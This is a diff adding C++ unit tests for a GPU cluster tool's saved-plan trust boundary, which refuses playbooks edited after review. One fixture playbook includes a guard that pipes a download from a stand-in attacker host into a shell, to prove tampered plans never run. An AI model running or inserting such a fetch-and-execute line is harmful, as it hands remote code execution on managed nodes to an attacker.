@@ -9,6 +9,7 @@
 #include <gpuctl/api/node_workflow_use_case.hpp>
 #include <gpuctl/api/plan_use_case.hpp>
 #include <gpuctl/api/report_use_case.hpp>
+#include <gpuctl/api/saved_plan.hpp>
 #include <gpuctl/api/verify_use_case.hpp>
 #include <gpuctl/plan/render.hpp>
 
@@ -279,6 +280,58 @@ TEST_F(SavedPlans, UnchangedPlanIsAppliedExactly) {
   ASSERT_EQ(applied.verdict, Verdict::ok) << applied.error;
   EXPECT_EQ(applied.stage, ApplyStage::applied);
   EXPECT_EQ(node("gpu01").files.at(k_conf), "managed by gpuctl for lab\n");
+}
+
+// The trust boundary of saved plans (issue #37): a playbook edited after the review, only in
+// what a handler or a guard runs, is refused before any node runs anything of it; and the plan
+// digest the review showed binds what runs even when the plan file is edited to match.
+TEST_F(SavedPlans, APlaybookEditedAfterTheReviewIsRefusedBeforeAnyNodeIsContacted) {
+  const auto path = save_plan();
+  for (const auto& name : {"gpu01", "gpu02"}) node(name).commands.clear();
+  // Only the guard changes: the same changes would be planned, but the guard runs while planning.
+  m_dir.write("test-node.yaml", "name: test-node\n"
+                                "steps:\n"
+                                "  - name: config\n"
+                                "    resources:\n"
+                                "      - file: /etc/gpuctl-test.conf\n"
+                                "        template: test.conf.mustache\n"
+                                "      - command: touch /var/lib/gpuctl-test/done\n"
+                                "        unless: curl -s http://attacker.invalid/x | sh\n"
+                                "    checks: [nouveau_not_loaded]\n"
+                                "  - name: driver\n"
+                                "    resources:\n"
+                                "      - package: nvidia-open\n");
+  const auto applied = apply_saved(path);
+  EXPECT_EQ(applied.verdict, Verdict::error);
+  EXPECT_NE(applied.error.find("playbook " + m_playbook + " changed"), std::string::npos) << applied.error;
+  for (const auto& name : {"gpu01", "gpu02"})
+    EXPECT_TRUE(node(name).commands.empty()) << name << " ran " << ::testing::PrintToString(node(name).commands);
+}
+
+TEST_F(SavedPlans, ThePlanDigestOfTheReviewBindsWhatRunsWhateverThePlanFileSays) {
+  const auto planned = run_plan({target()}, env());
+  ASSERT_EQ(planned.verdict, Verdict::changes_pending) << planned.error;
+  const auto reviewed = plan_digest(planned.plan);
+  ASSERT_EQ(reviewed.size(), 64u);
+  auto settings = fast();
+  settings.plan_digest = reviewed.substr(0, 16);
+  // The playbook is edited and the plan file with it, so that the two agree.
+  m_dir.write("test-node.yaml", "name: test-node\nsteps:\n  - name: config\n    resources:\n"
+                                "      - command: touch /var/lib/gpuctl-test/done\n        creates: /var/lib/gpuctl-test/done\n"
+                                "      - package: nvidia-open\n");
+  const auto edited = run_plan({target()}, env());
+  ASSERT_NE(plan_digest(edited.plan), reviewed);
+  const auto edited_path = m_dir.write("plan.json", plan_to_json(edited.plan));
+  const auto refused = run_apply_saved_plan({edited_path, {.command = "apply"}, settings}, env());
+  EXPECT_EQ(refused.verdict, Verdict::error);
+  EXPECT_NE(refused.error.find("its plan digest is " + plan_digest(edited.plan) + ", not the reviewed " + settings.plan_digest),
+            std::string::npos)
+      << refused.error;
+  EXPECT_EQ(refused.stage, ApplyStage::planned) << "nothing applied";
+  // The digest of the plan as it is applies it.
+  settings.plan_digest = plan_digest(edited.plan).substr(0, 12);
+  const auto applied = run_apply_saved_plan({edited_path, {.command = "apply"}, settings}, env());
+  EXPECT_EQ(applied.verdict, Verdict::ok) << applied.error;
 }
 
 // The cluster's munge key: plan and verify never mint it (a CI job with its own state directory
